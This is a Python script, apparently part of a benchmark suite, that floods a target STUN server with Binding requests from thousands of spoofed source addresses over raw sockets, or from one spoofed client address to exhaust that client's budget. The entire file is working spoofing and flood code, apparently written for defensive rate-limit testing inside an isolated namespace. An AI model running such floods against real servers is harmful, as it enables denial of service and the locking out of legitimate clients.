#!/usr/bin/env python3
"""Spoofed STUN Binding requests, for bench/attackbench.py: SOURCES different
made-up source addresses (10.200.0.0/16), PPS packets a second, for SECONDS,
then stop. Raw socket, so root and a network namespace made for the purpose
(never send this outside one).

    stun_spoof.py TARGET_IP TARGET_PORT --sources 12000 --pps 3000 --seconds 20
    stun_spoof.py TARGET_IP TARGET_PORT --source 10.88.1.2 --pps 400 --seconds 20

With --source, every request carries that one address (a client's own: the
flood then uses up that address's STUN budget), from changing ports.
"""
import argparse
import os
import socket
import struct
import time


def stun_request(txid: bytes) -> bytes:
    # Binding request, no attributes: type 0x0001, length 0, magic cookie, id.
    return struct.pack("!HHI", 0x0001, 0, 0x2112A442) + txid


def packet(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    # Version/IHL, TOS, total length, id, flags/fragment, TTL, protocol, checksum
    # (the kernel fills in the length and checksum of a raw IP packet).
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    return ip + udp


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("target_ip")
    p.add_argument("target_port", type=int)
    p.add_argument("--sources", type=int, default=12000)
    p.add_argument("--pps", type=float, default=3000)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--source", help="spoof this one address instead of --sources made-up ones")
    a = p.parse_args()
    assert a.sources <= 65000 and a.seconds <= 600, "bounded runs only"
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sources = ([a.source] if a.source else
               [f"10.200.{i // 250}.{i % 250 + 1}" for i in range(a.sources)])
    start = time.monotonic()
    sent = 0
    while True:
        now = time.monotonic()
        if now - start >= a.seconds:
            break
        due = int((now - start) * a.pps)
        while sent < due:
            src = sources[sent % len(sources)]
            pkt = packet(src, a.target_ip, 40000 + sent % 20000, a.target_port,
                         stun_request(os.urandom(12)))
            try:
                sock.sendto(pkt, (a.target_ip, 0))
            except OSError:
                pass
            sent += 1
        time.sleep(0.002)
    print(f"sent {sent} spoofed STUN requests from {min(sent, len(sources))} sources "
          f"in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
